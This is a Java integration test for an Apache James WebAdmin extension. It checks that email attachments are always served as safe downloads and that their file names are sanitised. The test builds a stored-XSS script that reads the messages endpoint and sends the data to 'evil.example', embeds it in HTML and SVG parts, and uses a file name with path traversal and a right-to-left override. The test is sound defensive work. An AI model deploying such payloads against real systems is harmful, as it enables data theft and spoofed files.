package org.mailhook.webadmin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.Base64;
import java.util.UUID;

import org.apache.james.GuiceJamesServer;
import org.apache.james.JamesServerExtension;
import org.apache.james.utils.WebAdminGuiceProbe;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.mailhook.testing.JamesTestServer;
import org.mailhook.testing.SmtpClient;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * Content downloads inside a real James 3.8.1 WebAdmin: the sender's bytes are always a download
 * (attachment disposition, nosniff, sandboxing CSP), never a page of WebAdmin's origin.
 */
class DownloadsJamesTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static final String SCRIPT = "<script>fetch('/mailhook/messages').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</script>";
    private static final JamesTestServer JAMES = JamesTestServer.withMailhookProcessor("""
        <mailet match="All" class="org.mailhook.mailets.ToJson"/>
        <mailet match="All" class="org.mailhook.mailets.Archive">
          <repositoryPath>memory://var/mail/archive/</repositoryPath>
          <retention>1d</retention>
        </mailet>
        <mailet match="All" class="Null"/>""")
        .withConf("webadmin.properties", """
            enabled=true
            port=0
            host=127.0.0.1
            extensions.routes=org.mailhook.webadmin.MessagesRoutes
            """)
        .withConf("mailhook.properties", """
            archive.repository=memory://var/mail/archive/
            pull.settle=100ms
            """);

    @RegisterExtension
    static JamesServerExtension jamesServer = JAMES.extension();

    @Test
    void everyDownloadIsAnAttachmentThatNoBrowserRendersOrSniffs(GuiceJamesServer server) throws Exception {
        String subject = "downloads-" + UUID.randomUUID();
        String message = "Subject: " + subject + "\r\nMessage-ID: <" + subject + "@example.org>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
            + "--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
            // no file name, the sender's type is HTML: stored XSS if served inline as text/html
            + "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment\r\n\r\n" + SCRIPT + "\r\n"
            // no file name, SVG (runs script when opened as a document)
            + "--b\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\">" + SCRIPT + "</svg>\r\n"
            // a named HTML file: still a download, never text/html
            + "--b\r\nContent-Type: text/html; name=\"invoice.html\"\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n"
            + SCRIPT + "\r\n"
            // a path and a right-to-left override in the name, a harmless type that is kept
            + "--b\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename*=UTF-8''..%2F..%2Fr%C3%A9sum%E2%80%AEvsc.exe\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString("a,b\n".getBytes()) + "\r\n"
            + "--b--\r\n";
        assertThat(SmtpClient.send(JAMES.smtpPort(), "sender@example.org", "to@inbound.localhost", message)).startsWith("250");
        JsonNode entry = await().atMost(Duration.ofSeconds(20)).until(() -> find(server, subject), e -> e != null);
        String id = entry.path("id").asText();
        JsonNode attachments = entry.path("message").path("attachments");
        assertThat(attachments).hasSize(4);

        HttpResponse<String> unnamedHtml = get(server, "/mailhook/messages/" + id + "/attachments/" + partId(attachments, "text/html", null));
        assertThat(unnamedHtml.statusCode()).isEqualTo(200);
        assertThat(unnamedHtml.body()).contains(SCRIPT);
        assertSafeDownload(unnamedHtml, "application/octet-stream", "attachment-");

        HttpResponse<String> svg = get(server, "/mailhook/messages/" + id + "/attachments/" + partId(attachments, "image/svg+xml", null));
        assertSafeDownload(svg, "application/octet-stream", "attachment-");

        HttpResponse<String> namedHtml = get(server, "/mailhook/messages/" + id + "/attachments/" + partId(attachments, "text/html", "invoice.html"));
        assertSafeDownload(namedHtml, "application/octet-stream", "invoice.html");
        assertThat(namedHtml.headers().firstValue("Content-Disposition")).contains("attachment; filename*=UTF-8''invoice.html");

        HttpResponse<String> csv = get(server, "/mailhook/messages/" + id + "/attachments/" + partId(attachments, "text/csv", null));
        assertThat(csv.body()).isEqualTo("a,b\n");
        assertSafeDownload(csv, "text/csv", "r%C3%A9sumvsc.exe");
        // no directory, and the U+202E that would show "résumexe.csv" is gone
        assertThat(csv.headers().firstValue("Content-Disposition")).contains("attachment; filename*=UTF-8''r%C3%A9sumvsc.exe");

        HttpResponse<String> raw = get(server, "/mailhook/messages/" + id + "/raw");
        assertThat(raw.statusCode()).isEqualTo(200);
        assertThat(raw.body()).contains("Subject: " + subject);
        assertSafeDownload(raw, "message/rfc822", id + ".eml");
        assertThat(raw.headers().firstValue("Content-Disposition")).contains("attachment; filename*=UTF-8''" + id + ".eml");
    }

    private static void assertSafeDownload(HttpResponse<String> response, String type, String namePart) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith(type);
        assertThat(response.headers().firstValue("Content-Disposition").orElse(""))
            .startsWith("attachment; filename*=UTF-8''").contains(namePart);
        assertThat(response.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(response.headers().firstValue("Content-Security-Policy")).contains("sandbox; default-src 'none'");
    }

    /** The part id of the attachment with this declared type (and file name, or none when null). */
    private static String partId(JsonNode attachments, String type, String filename) {
        for (JsonNode attachment : attachments) {
            boolean typeMatches = attachment.path("contentType").asText().startsWith(type);
            boolean nameMatches = filename == null
                ? attachment.path("filename").isNull() || attachment.path("filename").isMissingNode() || type.equals("text/csv")
                : filename.equals(attachment.path("filename").asText());
            if (typeMatches && nameMatches) {
                return attachment.path("partId").asText();
            }
        }
        throw new AssertionError("no " + type + " attachment named " + filename + " in " + attachments);
    }

    private static JsonNode find(GuiceJamesServer server, String subject) throws Exception {
        for (JsonNode entry : JSON.readTree(get(server, "/mailhook/messages?limit=1000").body()).path("messages")) {
            if (subject.equals(entry.path("message").path("subject").asText())) {
                return entry;
            }
        }
        return null;
    }

    private static HttpResponse<String> get(GuiceJamesServer server, String path) throws Exception {
        int port = server.getProbe(WebAdminGuiceProbe.class).getWebAdminPort().getValue();
        return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).timeout(Duration.ofSeconds(30)).build(),
            HttpResponse.BodyHandlers.ofString());
    }
}
